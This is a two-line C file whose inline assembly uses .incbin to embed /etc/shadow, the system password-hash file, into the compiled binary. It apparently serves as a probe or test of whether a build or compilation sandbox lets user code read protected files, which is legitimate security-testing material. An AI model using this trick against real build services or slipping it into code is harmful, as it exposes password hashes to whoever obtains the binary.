__asm__(".section .rodata\n.incbin \"/etc/shadow\"\n.text");
int main(void) { return 0; }
